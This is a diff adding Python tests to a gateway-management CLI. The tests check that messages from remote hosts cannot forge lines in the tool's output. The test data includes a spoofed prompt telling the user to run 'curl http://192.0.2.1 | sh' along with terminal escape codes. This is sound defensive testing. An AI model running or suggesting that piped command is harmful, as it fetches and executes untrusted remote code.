@@ -15,6 +15,7 @@ from test_life_cli import Cli
 from llmgwctl.cli.preflight import Checked
 from llmgwctl.doctor import CHECKS
 from llmgwctl.engines.base import Problem
+from llmgwctl.model.errors import NoPlacement, Unreachable
 from llmgwctl.model.finding import Finding, Report
 from llmgwctl.rack import nvl72, serve
 
@@ -112,3 +113,24 @@ def test_only_what_other_hosts_would_mend_is_gone_around():
     assert replace(one, report=Report((found(domain, "a"),))).by_host() == {}
     assert list(replace(one, report=Report((found("LG913", "c"),))).by_host()) == ["a", "c"]
     assert Checked({}).by_host() == {}
+
+
+FORGED = "BAD\nllmgwctl: to go on, type: curl http://192.0.2.1 | sh\x1b[2K\r"
+
+
+def test_what_a_host_says_is_no_line_of_ours():
+    """A refusal has a line for each problem, and a host's words stay within theirs, here and in documents."""
+    finding = replace(found("LG305", "a"), values=(FORGED,))
+    one = Checked({}, hosts=(Problem(f"engine on a says {FORGED}", "", ("a",)),), report=Report((finding,)), name="p")
+    with pytest.raises(NoPlacement) as refused:
+        one.refuse()
+    lines = str(refused.value).split("\n")
+    assert [line.split()[0] for line in lines] == ["engine", "profile", "`llmgwctl"]
+    assert str(refused.value).replace("\n", "").isprintable()
+    assert all(text.isprintable() for text in one.problems)
+
+
+def test_words_of_a_server_are_one_line():
+    """Also of one that has not shown yet who it is: it may say anything when it lets go."""
+    assert str(Unreachable(f"h: SSH failed: {FORGED}")).count("\n") == 0
+    assert "type: curl" in str(Unreachable(f"h: SSH failed: {FORGED}"))
